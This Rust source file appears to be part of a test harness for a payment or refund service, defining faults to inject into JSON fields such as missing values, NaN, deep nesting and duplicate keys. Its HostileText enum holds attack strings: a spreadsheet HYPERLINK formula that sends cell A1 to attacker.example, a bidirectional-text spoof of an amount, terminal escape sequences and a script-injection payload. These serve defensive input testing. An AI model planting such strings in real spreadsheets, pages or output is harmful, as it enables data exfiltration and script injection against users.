//! What can be wrong with one field.

use refill_core::money::Decimal;
use serde::{Deserialize, Serialize};

use crate::json::Json;

/// How a field is off.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FieldFault {
    /// Not there.
    Missing,
    /// `null`.
    Null,
    /// A number as text: `"950"`. A text field becomes a number.
    AsText,
    /// The right number, with an exponent: `95e1`.
    Exponent,
    /// An object where a plain value belongs.
    WrongType,
    /// Below zero.
    Negative,
    /// A number of 19 digits, which floating point cannot hold.
    NineteenDigits,
    /// `NaN`, which JSON does not know but careless servers write.
    NotANumber,
    /// Arrays within arrays, so many levels of them.
    Nested(usize),
    /// There as it should be, and once more with this JSON text.
    Twice(String),
    /// A text that is up to something.
    Text(HostileText),
    /// This JSON text.
    Literal(String),
}

/// Texts that are up to something where they are shown or exported.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum HostileText {
    /// Spreadsheets would calculate it.
    Formula,
    /// It turns the direction of writing around.
    Bidi,
    /// Terminals would obey it.
    Ansi,
    /// Browsers would run it.
    Markup,
    /// Longer than any name.
    Long,
}

impl HostileText {
    /// The text.
    pub fn text(self) -> String {
        match self {
            HostileText::Formula => "=HYPERLINK(\"https://attacker.example/?\"&A1,\"refund\")".to_owned(),
            HostileText::Bidi => "paid \u{202e}00.01$\u{202c} \u{2066}now\u{2069}".to_owned(),
            HostileText::Ansi => "\u{1b}[31mred\u{1b}[0m \u{1b}]0;title\u{7} \u{8}".to_owned(),
            HostileText::Markup => "<img src=x onerror=alert(1)><script>alert(2)</script>".to_owned(),
            HostileText::Long => "long ".repeat(20_000),
        }
    }
}

impl FieldFault {
    /// Spoils `field` of `json`.
    pub(crate) fn apply(self, json: &mut Json, field: &str) {
        let value = match self {
            FieldFault::Missing => None,
            FieldFault::Null => Some(Json::null()),
            FieldFault::AsText => json.field(field).map(|value| as_text(&value)),
            FieldFault::Exponent => json.field(field).map(|value| with_exponent(&value)),
            FieldFault::WrongType => Some(Json::object([("value", Json::number(1))])),
            FieldFault::Negative => Some(Json::number(-250)),
            FieldFault::NineteenDigits => Some(Json::number(1_234_567_890_123_456_789)),
            FieldFault::NotANumber => Some(Json::Literal("NaN".to_owned())),
            FieldFault::Nested(levels) => Some(Json::Literal(format!(
                "{}{}",
                "[".repeat(levels),
                "]".repeat(levels)
            ))),
            FieldFault::Twice(text) => return json.repeat(field, Json::Literal(text)),
            FieldFault::Text(hostile) => Some(Json::text(&hostile.text())),
            FieldFault::Literal(text) => Some(Json::Literal(text)),
        };
        json.spoil(field, value);
    }
}

fn as_text(value: &str) -> Json {
    match value.strip_prefix('"').and_then(|rest| rest.strip_suffix('"')) {
        Some(number) => Json::Literal(number.to_owned()),
        None => Json::text(value),
    }
}

/// The same number as a whole one and a power of ten; what is no number stays.
fn with_exponent(value: &str) -> Json {
    let Ok(number) = value.parse::<Decimal>() else {
        return Json::Literal(value.to_owned());
    };
    let number = number.normalize();
    let (mut digits, mut exponent) = (number.mantissa(), -i64::from(number.scale()));
    while digits != 0 && digits % 10 == 0 {
        digits /= 10;
        exponent += 1;
    }
    Json::Literal(format!("{digits}e{exponent}"))
}
